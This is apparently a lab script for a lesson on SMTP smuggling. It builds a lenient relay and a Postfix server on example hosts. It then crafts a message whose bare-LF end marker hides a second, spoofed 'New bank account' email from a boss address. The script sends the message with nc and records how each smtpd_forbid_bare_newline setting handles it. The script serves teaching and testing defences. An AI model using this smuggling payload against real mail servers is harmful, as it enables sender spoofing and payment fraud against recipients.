#!/usr/bin/env bash
# The recorded outputs of lesson B6 (smtp-smuggling): `npm run transcripts -- B6`, about one minute.
# out.cheap.example, a hoster's outgoing server that passes on what its customers write (thirty lines of Python: no packaged server does so any
# more), and mx1.haibo.example, Postfix with each value of smtpd_forbid_bare_newline in turn.
. "$(dirname "$0")/../lib.sh"
network 203.0.113
host dns ns.example 53 "$IMAGE_MAIL"
host haibo mx1.haibo.example 20 "$IMAGE_MAIL" UTC0
host out out.cheap.example 77 "$IMAGE_MAIL" UTC0
host eve eve.example 66 "$IMAGE_CLIENT" UTC0
zones haibo.example=mx1.haibo.example=20 cheap.example=out.cheap.example=77
mailserver haibo mx1.haibo.example haibo.example wang
wait_for haibo /var/log/mail.log 'daemon started' 30
on out "cat >/srv/relay.py <<'P'
# Accepts mail from its customers as anybody@cheap.example; takes only CRLF.CRLF for the end, and passes on the octets before it unchanged.
import re, socket, socketserver
class Customer(socketserver.StreamRequestHandler):
    def line(self):
        data = b''
        while not data.endswith(b'\r\n'):
            octet = self.rfile.read(1)
            if not octet: return None
            data += octet
        return data
    def say(self, text): self.wfile.write(text + b'\r\n')
    def handle(self):
        self.say(b'220 out.cheap.example'); sender = None
        while (line := self.line()) is not None:
            word = line[:4].upper()
            if word == b'MAIL':
                if not line.rstrip().endswith(b'@cheap.example>'): self.say(b'553 5.7.1 Not your address'); continue
                sender = line
            elif word == b'RCPT': rcpt = line
            elif word == b'DATA':
                self.say(b'354 End with CRLF.CRLF'); data = b''
                while not data.endswith(b'\r\n.\r\n'): data += self.rfile.read(1)
                self.send(sender, rcpt, data); self.say(b'250 2.0.0 Ok: one message'); continue
            elif word == b'QUIT': self.say(b'221 2.0.0 Bye'); return
            self.say(b'250 2.0.0 Ok')
    def send(self, sender, rcpt, data):
        s = socket.create_connection(('203.0.113.20', 25)); f = s.makefile('rb')
        def reply():
            while (l := f.readline())[3:4] == b'-': pass
        reply()
        for command in (b'EHLO out.cheap.example\r\n', sender, rcpt, b'DATA\r\n'):
            s.sendall(command); reply()
        s.sendall(data); s.settimeout(5)
        try:
            while f.readline(): pass
        except TimeoutError: pass
        s.close()
socketserver.ThreadingTCPServer.allow_reuse_address = True
socketserver.ThreadingTCPServer(('', 25), Customer).serve_forever()
P
"
docker exec -d "$RUN-out" python3 /srv/relay.py
# What Eve writes: one message, with the end of another hidden in it.
on eve "cat >/root/message <<'M'
From: eve@cheap.example
To: wang@haibo.example
Subject: hello

Nice weather.@
.
MAIL FROM:<boss@cheap.example>
RCPT TO:<wang@haibo.example>
DATA
From: Boss <boss@cheap.example>
To: wang@haibo.example
Subject: New bank account

Please pay to the new account.
.
M
# Every line ends with CRLF, but the one marked @: it ends with a bare LF.
sed -e 's/\$/\r/' -e 's/@\r\$//' /root/message >/root/wire
(printf 'EHLO eve\r\nMAIL FROM:<eve@cheap.example>\r\nRCPT TO:<wang@haibo.example>\r\nDATA\r\n'; cat /root/wire; printf 'QUIT\r\n') >/root/session"
prompt='eve@pc:~$'
record wire eve "sed -n '4,8p' /root/wire | xxd" "$prompt"
smuggle() { # SETTING FILE PIPELINING
  on haibo "postconf -e smtpd_forbid_bare_newline=$1 smtpd_forbid_unauth_pipelining=$3; postfix reload; rm -rf /srv/vmail/haibo.example/wang/Maildir/new/*; : >/var/log/mail.log" >/dev/null 2>&1
  sleep 2
  record "$2" haibo 'postconf smtpd_forbid_bare_newline smtpd_forbid_unauth_pipelining' 'root@mx1:~#'
  on eve 'nc -w 12 out.cheap.example 25 </root/session' >/dev/null
  sleep 3
  record "$2" haibo "grep -E 'from=<|bare|reject|improper|status=' /var/log/mail.log" 'root@mx1:~#'
  record "$2" haibo "grep -hm1 ^Subject: /srv/vmail/haibo.example/wang/Maildir/new/* 2>/dev/null" 'root@mx1:~#'
}
smuggle no no no
smuggle no pipelining yes
smuggle normalize normalize no
smuggle reject reject no
record defaults haibo 'postconf -d smtpd_forbid_bare_newline smtpd_forbid_bare_newline_exclusions smtpd_forbid_unauth_pipelining cleanup_replace_stray_cr_lf' 'root@mx1:~#'
record versions haibo 'dpkg-query -W postfix'
